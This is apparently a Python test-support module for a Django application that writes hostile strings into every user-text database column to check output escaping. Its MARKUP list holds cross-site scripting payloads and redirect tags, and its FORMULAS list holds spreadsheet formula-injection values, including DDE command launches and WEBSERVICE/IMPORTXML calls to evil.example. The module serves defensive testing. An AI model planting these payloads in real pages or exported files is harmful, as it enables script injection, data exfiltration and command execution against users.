"""A world in which every text that people write is hostile."""

from __future__ import annotations

from collections.abc import Iterator, Sequence

from django.apps import apps
from django.db import IntegrityError, connection, models, transaction

from skillmap.framework import catalogue
from tests.support.append_only import guards_lifted

OURS = ("core", "people", "framework", "assessment", "gaps")
#: Texts that programs write: keys, codes, paths, addresses, digests. Nobody types into them.
OF_PROGRAMS = frozenset(
    {
        "code", "core_category", "dedup_key", "digest", "email", "fingerprint", "issuer", "kind", "lease_owner",
        "number", "password", "path", "prefix", "provenance", "provider_id", "sha256", "slot", "subject_key",
        "target", "verb", "channel", "storage_name", "key", "hash", "previous_hash", "seal",
    }
)  # fmt: skip

#: Markup that would show, run or lead away where it is not escaped; MARK stands in each.
MARK = "xq9"
MARKUP = (
    "<script>alert('xq9')</script>", "\"><script>alert('xq9')</script>", "'><script>alert(/xq9/)</script>",
    "</script><script>alert('xq9')</script>", "</title><script>alert('xq9')</script>", "<xq9>", "</p><xq9 a=1>",
    "</textarea><xq9>", "</option></select><xq9>", "</style><xq9>", "--><xq9>", "<!--<xq9>-->", "]]><xq9>",
    "<img src=x onerror=xq9()>", "\"><img src=x onerror=xq9()>", "<svg onload=xq9()>", "<svg/onload=xq9()>",
    "<svg><script>xq9()</script>", "<math><mi xq9=1>", "\" onmouseover=\"xq9()", "' onfocus='xq9()' autofocus='",
    "\" autofocus onfocus=xq9() x=\"", "` onclick=xq9() `", "\" hx-get=\"/xq9\" hx-trigger=\"load", "\" style=\"xq9:1",
    "' hx-on::load='xq9()", "javascript:xq9()", "JaVaScRiPt:xq9()", "java\tscript:xq9()", "data:text/html,<xq9>",
    "<a href=javascript:xq9()>x</a>", "<iframe srcdoc='<xq9>'>", "<base href=//xq9.test>", "<form action=//xq9.test>",
    "<meta http-equiv=refresh content='0;url=//xq9.example'>", "<link rel=stylesheet href=//xq9.example>",
    "{{ xq9 }}{% xq9 %}", "${xq9}#{xq9}<%= xq9 %>", "&lt;xq9&gt;&#60;xq9&#62;", "\u2028<xq9>\u202e＜xq9＞",
    "<<xq9>script>", "<xq9\x0c/x>",
)  # fmt: skip
#: What spreadsheets would compute.
FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=WEBSERVICE(\"http://evil.example\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=DDE(\"cmd\",\"/c calc\",\"x\")", "=INDIRECT(\"A1\")", "={1;2}",
    "==1+1", "+1+1", "+cmd|'/c calc'!A0", "+81-3-1234", "-1+1", "-cmd|'/c calc'!A0", "--1", "@SUM(1+1)", "@1", "@@x",
    "\t=1+1", "\r=1+1", " =1+1", "　=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "\"=1+1\"", "|=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1",
)  # fmt: skip


def columns() -> Iterator[tuple[type[models.Model], models.Field[object, object]]]:
    """Every column that holds what people write."""
    for app in OURS:
        for model in apps.get_app_config(app).get_models():
            for column in model._meta.concrete_fields:
                is_text = isinstance(column, models.CharField | models.TextField) and not column.choices
                if is_text and column.name not in OF_PROGRAMS and not column.primary_key:
                    yield model, column


def poison(strings: Sequence[str]) -> dict[str, int]:
    """Write the strings into every row of these columns, in turn; how many rows of which column took one."""
    taken: dict[str, int] = {}
    turn = 0
    with guards_lifted(connection):
        for model, column in columns():
            for pk in model._base_manager.order_by("pk").values_list("pk", flat=True)[:50]:
                text = strings[turn % len(strings)][: getattr(column, "max_length", None)]
                turn += 1
                try:
                    with transaction.atomic():
                        model._base_manager.filter(pk=pk).update(**{column.name: text})
                except IntegrityError:  # a rule of the database refuses it
                    continue
                label = f"{model._meta.label}.{column.name}"
                taken[label] = taken.get(label, 0) + 1
    catalogue._published.clear()  # published versions are kept in the process
    return taken
